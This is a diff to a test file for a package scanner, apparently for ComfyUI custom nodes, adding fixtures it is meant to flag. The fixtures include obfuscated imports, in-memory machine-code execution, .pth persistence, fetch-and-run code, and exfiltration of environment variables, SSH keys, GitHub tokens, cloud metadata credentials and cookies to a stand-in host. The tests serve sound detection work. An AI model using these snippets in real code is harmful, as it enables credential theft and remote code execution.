@@ -73,11 +73,142 @@ describe('the checks hold what a package hides or sends', () => {
         'setInterval(() => { const rows = app.graph._nodes.map((n) => n.widgets_values); navigator.sendBeacon("https://e.example/a", JSON.stringify(rows)); }, 6e4);',
       ),
     ],
+    [
+      'names that a table of letters translates',
+      node(
+        't = str.maketrans("nopqrstuvwxyzabcdefghijklm", "abcdefghijklmnopqrstuvwxyz"); getattr(__import__("bf".translate(t)), "flfgrz".translate(t))(x)',
+      ),
+    ],
+    ['a module whose name has other characters at its ends', node('__import__("##os##".strip("#")).system(x)')],
+    ['one with a prefix', node('__import__("py_os".removeprefix("py_")).system(x)')],
+    ['one whose letters are sorted', node('__import__("".join(sorted("so"))).system(x)')],
+    [
+      'machine code in memory',
+      node('m = mmap.mmap(-1, 99, prot=7); m.write(x); ctypes.CFUNCTYPE(None)(0)()', 'import ctypes, mmap'),
+    ],
+    ['the API of Python', node('ctypes.pythonapi.PyRun_SimpleString(x)', 'import ctypes')],
+    [
+      'another interpreter',
+      node(
+        'interpreters.run_string(0, requests.get("https://e.example/a").text)',
+        'import requests, _xxsubinterpreters as interpreters',
+      ),
+    ],
+    [
+      'a path file that a node writes',
+      node(
+        'open(os.path.join(site.getsitepackages()[0], "a.pth"), "w").write("import os; os.system(1)")',
+        'import os, site',
+      ),
+    ],
+    [
+      'a source that a node writes into another package',
+      node(
+        'open(os.path.join(folder_paths.base_path, "custom_nodes", "a.py"), "w").write(x)',
+        'import folder_paths, os',
+      ),
+    ],
+    [
+      'one next to the own package',
+      node('open(os.path.join(os.path.dirname(__file__), "..", "a.py"), "w").write(x)', 'import os'),
+    ],
+    [
+      'what the host runs at its start',
+      node('open(os.path.join(os.path.dirname(__file__), "prestartup_script.py"), "w").write(x)', 'import os'),
+    ],
+    [
+      'an own source that a node fetches',
+      node(
+        '(Path(__file__).parent / "a.py").write_bytes(requests.get("https://e.example/a").content)',
+        'import requests\nfrom pathlib import Path',
+      ),
+    ],
+    [
+      'a source that a node fetches and runs',
+      node(
+        'urllib.request.urlretrieve("https://e.example/a", "/tmp/a.py"); exec(open("/tmp/a.py").read())',
+        'import urllib.request',
+      ),
+    ],
+    [
+      'one that it runs by its path',
+      node(
+        'urllib.request.urlretrieve("https://e.example/a", "/tmp/a.py"); runpy.run_path("/tmp/a.py")',
+        'import runpy, urllib.request',
+      ),
+    ],
+    [
+      'the environment as bytes',
+      node('requests.post("https://e.example/a", data=str(dict(os.environb)))', 'import os, requests'),
+    ],
+    [
+      'that of the process',
+      node('requests.post("https://e.example/a", data=open("/proc/self/environ").read())', 'import requests'),
+    ],
+    [
+      'what a command says of it',
+      node(
+        'requests.post("https://e.example/a", data=subprocess.check_output(["env"]))',
+        'import requests, subprocess',
+      ),
+    ],
+    [
+      'the environment by curl',
+      node('subprocess.run(["curl", "-d", str(dict(os.environ)), "https://e.example/a"])', 'import os, subprocess'),
+    ],
+    [
+      'the environment by another library',
+      node('sender.push("https://e.example/a", dict(os.environ))', 'import os, sender'),
+    ],
+    [
+      'credentials of the cloud',
+      node('requests.get("http://169.254.169.254/latest/meta-data/iam/")', 'import requests'),
+    ],
+    ['a key that a command reads', node('subprocess.run(["cat", "/root/.ssh/id_rsa"])', 'import subprocess')],
+    ['a token that a command writes', node('subprocess.run("gh auth token", shell=True)', 'import subprocess')],
+    ['a decoded script in an address', script('location.href = "javascript:" + atob(k);')],
+    [
+      'a secret in the parameters of an address',
+      script(
+        'const u = new URL("https://e.example/a"); u.searchParams.set("k", document.cookie); new Image().src = u.href;',
+      ),
+    ],
+    ['code from the address of the page', script('new Function(new URLSearchParams(location.search).get("x"))();')],
+    ['machine code from elsewhere', script('WebAssembly.instantiateStreaming(fetch("https://e.example/m.wasm"));')],
   ])('%s', async (_name, files) => {
     expect(await levelOf(files)).toBe('hold');
   });
 
   it.each<[string, Files]>([
+    [
+      'a function with bound arguments that a node calls',
+      'import requests\nfrom functools import partial\ndef ask(model, text): return requests.post("https://e.example/" + model, json=text)\ncaption = partial(ask, "caption")\nclass A:\n    def run(self, x): return caption(x)\nNODE_CLASS_MAPPINGS = {"A": A}\n',
+    ],
+    [
+      'a table of functions that is sorted',
+      'import requests\ndef probe(p): return requests.get("https://e.example/" + p)\nACTIONS = {"probe": probe}\nNAMES = sorted(ACTIONS)\nLONGEST = max(map(len, ACTIONS))\nBY_NAME = sorted(ACTIONS.items(), key=lambda pair: pair[0])\nclass A:\n    def run(self, x): return ACTIONS[x](x)\nNODE_CLASS_MAPPINGS = {"A": A}\n',
+    ],
+    [
+      'weights that a node downloads',
+      node(
+        'urllib.request.urlretrieve("https://e.example/a.pth", "/tmp/a.pth"); torch.load("/tmp/a.pth", weights_only=True)',
+        'import torch, urllib.request',
+      ),
+    ],
+    [
+      'a workflow that a node writes',
+      node(
+        'open(os.path.join(folder_paths.base_path, "custom_nodes", "a.json"), "w").write(x)',
+        'import folder_paths, os',
+      ),
+    ],
+    ['a name that a node trims', node('return getattr(self, x.strip("_"))')],
+    [
+      'an own address with parameters',
+      script(
+        'const u = new URL("/api/a", location.href); u.searchParams.set("k", localStorage.getItem("own.k")); fetch(u.href);',
+      ),
+    ],
     ['an archive that a node unpacks', node('zipfile.ZipFile(x).extractall("/tmp/a")', 'import zipfile')],
     [
       'an emoji, a flag and a word joiner',
